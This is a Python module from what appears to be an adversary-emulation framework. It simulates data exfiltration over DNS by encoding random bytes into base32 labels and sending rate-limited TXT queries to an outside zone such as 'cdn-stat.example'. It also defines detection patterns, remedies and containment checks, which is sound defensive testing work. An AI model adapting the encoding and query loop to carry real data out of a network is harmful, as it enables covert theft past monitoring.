"""A PC carries something out in names: each question to the name server has a piece of it as its labels."""

from __future__ import annotations

import base64
import re
from collections.abc import Sequence
from typing import Annotated, ClassVar

from pydantic import Field

from cyder.contracts.acting import entity, traced
from cyder.contracts.action import Action, Caps, Cleanup, Expected, Scene, Sighting, Trial
from cyder.contracts.probe import Check, Containment, Vantage
from cyder.contracts.whereabouts import sitting_at
from cyder.model.base import LocalText
from cyder.model.evidence import Receipt, Remedy, Trace, Truth
from cyder.roles.dns.outward import QUERIES, OutsideZone, Outward
from cyder.roles.dns.probes import PATIENCE, Resolves, reached_zone

_BYTES = 30
"""Bytes in a name: 48 letters, the label of a name that nobody would think of."""


class DnsLabels(Action):
    """`questions` TXT questions below `zone`, two in a second at most, each with 30 bytes of chance as its first label.

    No file of the office is read; what is carried is made up for it. Nothing stays on the PC.
    """

    id: ClassVar[str] = "exfil.dns-labels"
    title: ClassVar[LocalText] = LocalText(en="Data sent out in DNS names", ja="DNS問い合わせによるデータの持ち出し")
    techniques: ClassVar[tuple[str, ...]] = ("T1048.003", "T1071.004")
    sources: ClassVar[frozenset[str]] = frozenset({"client"})
    targets: ClassVar[frozenset[str]] = frozenset({"dns"})
    caps: ClassVar[Caps] = Caps(commands=41, per_second=2.0)
    touches: ClassVar[str] = "nothing: questions"
    ways: ClassVar[tuple[str, ...]] = ("refuse-zone",)
    trials: ClassVar[tuple[Trial, ...]] = (Trial("pc1", "dns", {"zone": "cdn-stat.example", "questions": 6}),)

    zone: OutsideZone
    questions: Annotated[int, Field(ge=4, le=40)] = 40

    def run(self, scene: Scene) -> Trace:
        """Ask one after the other, as whoever sits at the PC; stop at the first that does not get there."""
        started, user, sent = scene.clock.now(), sitting_at(scene).account, 0
        for name in self.names(scene):
            result = scene.actor.run(Outward(scene).dig(name, "TXT"), user=user, timeout=PATIENCE)
            if not reached_zone(result, self.zone):
                break
            sent += 1
        said = f"{sent} of {self.questions} names below {self.zone} were asked for, {sent * _BYTES} bytes in all"
        return traced(scene, started, reached=sent == self.questions, said=said)

    def emits(self, scene: Scene) -> tuple[Expected, ...]:
        """Expect every question in the query log, under the PC's address."""
        below = rf"[a-z2-7]{{48}}\.\d{{4}}\.{re.escape(self._below(scene))}"
        return (Outward(scene).asked(below, "TXT", least=self.questions),)

    def sightings(self, scene: Scene) -> tuple[Sighting, ...]:
        """Look for labels longer than words are, and at the TXT records a PC asked for."""
        (asked,) = self.emits(scene)
        long = Sighting(scene.target, ("grep", "-E", r"query: [^. ]{40,}\.", QUERIES), asked.pattern)
        return (long, Outward(scene).from_this_pc("TXT", asked))

    def truth(self, scene: Scene, receipts: Sequence[Receipt]) -> Truth:
        """Name the domain, and when it began."""
        (asked,) = self.emits(scene)
        return Truth(
            indicators=(entity(self.zone, domain=self.zone),),
            timeline=Outward(scene).when("exfil", asked, receipts),
            remedies=(
                Remedy(kind="block-network", target=self.zone),
                Remedy(kind="isolate-host", target=scene.source),
            ),
        )

    def control(self, scene: Scene) -> Check:
        """Ask whether others get ordinary names."""
        return Outward(scene).control()

    def containment(self, scene: Scene) -> tuple[Containment, ...]:
        """Closed once no question of the PC's gets there, by no server."""
        return (Outward(scene).refused(self.zone),)

    def cleanup(self, scene: Scene) -> Cleanup:
        """Remove nothing, since questions leave nothing; look whether the server still answers itself."""
        node = scene.lan.topology.node(scene.target)
        itself = Vantage(node.name, node.interfaces[0].address)
        answer = Resolves(target=node.name, name=f"{node.hostname}.{node.search}").check(scene.lan, itself)
        return Cleanup(verified=answer.passed, said=f"nothing was changed; {answer.said}")

    def names(self, scene: Scene) -> tuple[str, ...]:
        """Return the names to ask for; the same for the same seed."""
        pieces = (scene.seed.raw(f"piece/{number}")[:_BYTES] for number in range(self.questions))
        labels = (base64.b32encode(piece).decode().lower() for piece in pieces)
        return tuple(f"{label}.{number:04d}.{self._below(scene)}" for number, label in enumerate(labels))

    def _below(self, scene: Scene) -> str:
        return f"{scene.seed.token('id')[:6]}.{self.zone}"
